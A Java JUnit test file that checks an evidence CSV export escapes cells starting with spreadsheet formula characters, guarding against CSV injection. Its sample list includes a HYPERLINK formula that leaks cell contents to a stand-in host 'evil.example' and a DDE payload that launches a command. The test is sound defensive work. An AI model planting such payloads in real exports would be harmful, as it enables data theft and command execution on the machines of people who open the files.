package org.defaulterivr.api.audit;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.StringReader;
import java.time.Instant;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.defaulterivr.api.CsvCells;
import org.defaulterivr.evidence.EvidenceRecord;
import org.defaulterivr.evidence.NoticeOutcome;
import org.defaulterivr.evidence.query.LoggedEvidence;
import org.junit.jupiter.api.Test;

/** No cell of an evidence CSV export starts a spreadsheet formula (OWASP's CSV injection advice). */
class SpreadsheetInjectionTest {
    private static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR", "=cmd|' /C calc'!A0");

    private static CSVRecord exported(String caseNumber, String nodeId) throws IOException {
        EvidenceRecord record = new EvidenceRecord(nodeId, "1796000000.1", Instant.parse("2026-11-30T08:00:00Z"),
                "+8613800000000", "h:0000000000000001:01", "court-a", 7, caseNumber, 1, "ab".repeat(32),
                NoticeOutcome.PLAYED, 100, 30_000);
        String csv = EvidenceCsv.HEADER + EvidenceCsv.line(new LoggedEvidence(record, 1L, new byte[32]));
        return CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv)).getRecords().get(0);
    }

    @Test
    void aCaseNumberThatIsAFormulaIsWrittenAsText() throws IOException {
        for (String formula : FORMULAS) {
            CSVRecord row = exported(formula, formula);
            assertEquals("'" + formula, row.get("case_number"), "case number " + formula);
            assertEquals("'" + formula, row.get("node_id"), "node id " + formula);
            for (String cell : row.values()) {
                assertFalse(CsvCells.startsFormula(cell), "no cell starts a formula: " + cell);
            }
        }
        assertEquals("'+8613800000000", exported("(2026) Jing 1", "n1").get("called_number"), "E.164 is text too");
        assertEquals("(2026) Jing 1", exported("(2026) Jing 1", "n1").get("case_number"), "plain text unchanged");
    }

    @Test
    void onlyALeadingFormulaCharacterCounts() {
        assertTrue(CsvCells.startsFormula("=1"));
        assertFalse(CsvCells.startsFormula("a=1"));
        assertFalse(CsvCells.startsFormula(""));
        assertEquals("\"'=1\"\"\"", CsvCells.text(new StringBuilder(), "=1\"").toString());
    }
}
